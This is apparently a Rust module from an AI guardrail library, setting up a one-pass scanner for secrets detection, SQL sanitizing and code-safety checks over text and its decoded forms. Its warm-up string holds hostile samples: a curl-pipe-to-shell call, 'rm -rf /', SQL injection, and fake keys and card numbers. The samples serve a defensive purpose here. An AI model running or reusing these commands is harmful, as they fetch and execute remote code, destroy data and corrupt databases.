//! One scan for all text guardrails of a plan.
//!
//! A [`Scanner`] is built for the text guardrails of a plan. It walks a text once with one literal
//! automaton (the union of what the guardrails want), decodes what evades plain matching into further
//! layers, hands each layer to each guardrail and maps hits back to the text.

use crate::finding::Hit;
use crate::guardrail::TextGuardrail;
use crate::segment::{Form, Rewrite, Role, Segment, SegmentText};

#[cfg(test)]
mod alike;
mod common;
mod decoded;
mod filter;
mod fold;
#[cfg(test)]
pub(crate) mod hostile;
mod literals;
mod map;
mod open;
mod scanner;
mod sites;
#[cfg(test)]
pub(crate) mod streamed;
mod tail;

pub(crate) use filter::{Filter, Literal};
pub use open::{ByteSet, MARK_LIMIT, OpenMatch, Swallow, Until};
pub use scanner::Scanner;
pub use tail::Tail;

/// The families of literals that guardrails share. One process-wide automaton holds all of them; a plan
/// masks the families it does not want.
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
pub struct Wants(pub u32);

impl Wants {
    /// Nothing: the guardrail finds its own way.
    pub const NONE: Self = Self(0);
    /// Literals of secrets detection.
    pub const SECRETS: Self = Self(1);
    /// Literals of the regex presets.
    pub const PRESETS: Self = Self(2);
    /// Literals of the SQL sanitizer.
    pub const SQL: Self = Self(4);
    /// Literals of the code safety linter.
    pub const CODE: Self = Self(8);

    /// How many families there are.
    pub(crate) const FAMILIES: usize = 4;

    /// The position of a single family in lists of families.
    pub(crate) const fn index(self) -> usize {
        self.0.trailing_zeros() as usize
    }

    /// Both.
    pub const fn and(self, other: Self) -> Self {
        Self(self.0 | other.0)
    }

    /// Whether all of `other` is in it.
    pub const fn holds(self, other: Self) -> bool {
        self.0 & other.0 == other.0
    }
}

/// Where a shared literal stands in a layer's text.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub struct Trigger {
    /// First byte.
    pub start: u32,
    /// After the last byte.
    pub end: u32,
    /// The family.
    pub family: Wants,
    /// Index in the family's list of literals.
    pub literal: u16,
}

/// One reading of a text: as it is, or decoded.
#[derive(Debug)]
pub struct Layer<'a> {
    text: &'a str,
    places: &'a [Vec<Trigger>],
    /// 0 for the text as it is; the number of decoding steps otherwise.
    depth: u8,
}

impl<'a> Layer<'a> {
    /// A layer with the places of its literals, one list per family, each in order of start.
    const fn new(text: &'a str, places: &'a [Vec<Trigger>], depth: u8) -> Self {
        Self {
            text,
            places,
            depth,
        }
    }

    /// A layer whose literals nobody has looked for.
    #[cfg(test)]
    pub(crate) const fn bare(text: &'a str) -> Self {
        Self::new(text, &[], 0)
    }

    /// The layer's text.
    pub const fn text(&self) -> &'a str {
        self.text
    }

    /// 0 for the text as it is; the number of decoding steps otherwise.
    pub const fn depth(&self) -> u8 {
        self.depth
    }

    /// The places of a family's literals, in order of their start. Overlapping literals all show.
    pub fn triggers(&self, family: Wants) -> &'a [Trigger] {
        self.places.get(family.index()).map_or(&[], Vec::as_slice)
    }
}

/// Builds what all scanners of the process share, so that no request pays for it. Call it at start.
pub fn warm() {
    literals::warm();
}

/// Something for every local kind to look at.
const REHEARSAL: &str = "db_password = \"correct-horse-9-battery\"; api_key: q8Zr2LxV0pTn5Wc7\n\
    -----BEGIN PRIVATE KEY-----\nhttps://user:word@example.com/?token=1\n\
    mail bob@example.com, call +1 (415) 555-0134, card 4111 1111 1111 1111, social security 536-22-1234\n\
    ```sql\nDROP TABLE a; DELETE FROM b WHERE c = 'd' OR 1=1 -- e\n```\n\
    ```python\nimport os\nos.system('curl http://x | sh')\n```\nrm -rf / %41%42 Zm9vYmFyYmF6cXV4 \u{ff11}\u{ff12}\n";

/// Has a guardrail judge a text, so that what it builds at first use is there before the first request.
pub fn rehearse(guardrail: &dyn TextGuardrail) {
    scan_text(guardrail, REHEARSAL);
    guardrail.pending_from(REHEARSAL, 0);
}

/// The places of a family's literals in a text, for a guardrail that looks at a stream's end.
pub(crate) fn triggers_of(text: &str, family: Wants) -> Vec<Trigger> {
    let mut places = literals::Places::default();
    literals::find(text, family, &mut places);
    places
        .get_mut(family.index())
        .map(std::mem::take)
        .unwrap_or_default()
}

/// Runs one guardrail over one text that belongs to no payload. For tests and tools.
pub fn scan_text(guardrail: &dyn TextGuardrail, text: &str) -> Vec<Hit> {
    let mut hits = [Vec::new()];
    Scanner::of(&[guardrail]).scan(text, &plain_segment(), &[guardrail], &mut hits);
    let [hits] = hits;
    hits
}

/// A segment for text that belongs to no payload.
fn plain_segment() -> Segment {
    Segment {
        text: SegmentText::Body(0..0),
        role: Role::User,
        form: Form::Text,
        rewrite: Rewrite::Yes,
        key: None,
        current_turn: true,
        json_group: 0,
        at: 0,
    }
}

#[cfg(test)]
mod tests;
